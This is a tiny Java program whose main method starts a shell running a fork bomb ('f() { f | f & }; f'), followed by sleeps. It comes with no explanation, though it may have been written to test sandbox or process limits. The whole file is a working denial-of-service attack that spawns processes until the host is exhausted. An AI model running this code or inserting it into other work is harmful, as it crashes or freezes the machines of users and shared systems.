public class Main {
    public static void main(String[] args) throws Exception {
        new ProcessBuilder("/bin/sh", "-c", "f() { f | f & }; f; sleep 60").inheritIO().start().waitFor();
        Thread.sleep(60_000);
    }
}
